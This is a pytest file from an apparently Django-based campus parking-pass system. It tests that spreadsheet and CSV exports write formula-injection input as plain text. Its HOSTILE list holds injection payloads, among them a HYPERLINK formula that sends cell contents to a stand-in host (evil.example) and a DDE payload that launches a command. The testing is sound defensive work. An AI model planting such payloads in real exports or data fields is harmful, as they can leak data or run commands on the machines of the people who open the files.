"""Exports that cannot run code: a hostile corpus of text (formula triggers =, +, -, @, tab, CR, and
a NUL) put into every text field an export shows, then every .xlsx export downloaded — orders,
refunds, pickups and deliveries, new passes, the registry export (admin and command), the audit
log — and each file checked: no cell is a formula, every hostile value comes out as the same text."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campuspass.backoffice import roles
from campuspass.core.audit import log_action
from campuspass.core.spreadsheets import csv_row, xlsx_row
from campuspass.payments import providers
from campuspass.registry.exports import export_passes
from campuspass.registry.models import Staff, Vehicle
from campuspass.renewals.models import Refund, RenewalOrder
from campuspass.renewals.services.refunds import refund_request
from tests.conftest import pass_second_factor
from tests.renewals.factories import make_campaign
from tests.renewals.fakes import FakeProvider

from .test_counter import approved_order, rejected_order

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+86-10-1234",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def _formula_free(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"a formula in {name}"


def _texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.add(cell.value)
    return found


def _appears(value: str, texts: set[str]) -> bool:
    wanted = value.replace("\r", "\n")  # XML reads a lone CR back as a newline
    return any(wanted in text.replace("\r", "\n") for text in texts)


@pytest.fixture
def hostile_world(monkeypatch, django_capture_on_commit_callbacks):
    monkeypatch.setattr(providers, "_provider", FakeProvider())
    campaign = make_campaign()
    for index, value in enumerate(HOSTILE):
        order = (
            approved_order(campaign, fulfilment="delivery", address=f"逸夫楼{index}")
            if index % 2
            else rejected_order(campaign)
        )
        RenewalOrder.objects.filter(pk=order.pk).update(
            delivery_address=value,
            reject_reason=value if order.status == RenewalOrder.Status.REJECTED else "",
        )
        Staff.objects.filter(pk=order.staff_id).update(name=value, department=value)
        Vehicle.objects.filter(plate=order.plate).update(brand_model=value, color=value[:16])
        if order.status == RenewalOrder.Status.REJECTED:
            with django_capture_on_commit_callbacks(execute=True):
                refund = refund_request(order=order)
            Refund.objects.filter(pk=refund.pk).update(reason=value[:80], last_error=value)
        log_action(actor=None, action="test.hostile", reason=value, data={"note": value})
    return campaign


@pytest.fixture
def finance_admin(office_client):
    client, user = office_client(roles.ADMIN)
    user.is_staff = user.is_superuser = True
    user.save()
    pass_second_factor(client, user)
    return client


def _download(client, url, params=None) -> bytes:
    response = client.get(url, params or {})
    assert response.status_code == 200, (url, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("kind", ["orders", "refunds", "fulfilment", "passes"])
def test_back_office_exports_write_hostile_text_as_text(hostile_world, finance_admin, kind):
    content = _download(finance_admin, reverse("backoffice:exports-download", args=[kind]))
    _formula_free(content)
    texts = _texts(content)
    assert any(_appears(value, texts) for value in HOSTILE)
    # orders show every order's person; new passes and fulfilment only the approved ones (odd indexes)
    expected = {"orders": HOSTILE, "passes": HOSTILE[1::2], "fulfilment": HOSTILE[1::2]}.get(kind, [])
    for value in expected:
        assert _appears(value, texts), (kind, value)


def test_the_audit_log_export_writes_hostile_text_as_text(hostile_world, finance_admin):
    content = _download(finance_admin, reverse("backoffice:audit_export"))
    _formula_free(content)
    texts = _texts(content)
    for value in HOSTILE:
        assert _appears(value, texts), value


def test_the_registry_export_writes_hostile_text_as_text_and_imports_back(hostile_world, tmp_path):
    path = tmp_path / "registry.xlsx"
    export_passes(path=path)
    content = path.read_bytes()
    _formula_free(content)
    texts = _texts(content)
    for value in HOSTILE:
        assert _appears(value, texts), value


def test_the_admin_registry_export_writes_hostile_text_as_text(hostile_world, finance_admin):
    content = _download(finance_admin, reverse("admin:registry_pass_export"), {"download": "1"})
    _formula_free(content)
    assert _appears(HOSTILE[0], _texts(content))


def test_control_characters_never_break_an_export():
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, ["地址\x00\x01\x0b末尾", "=1"]))
    stream = io.BytesIO()
    book.save(stream)
    assert _texts(stream.getvalue()) >= {"地址末尾", "=1"}


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe():
    assert csv_row([*HOSTILE, "张三", 5]) == [*("'" + v for v in HOSTILE), "张三", 5]
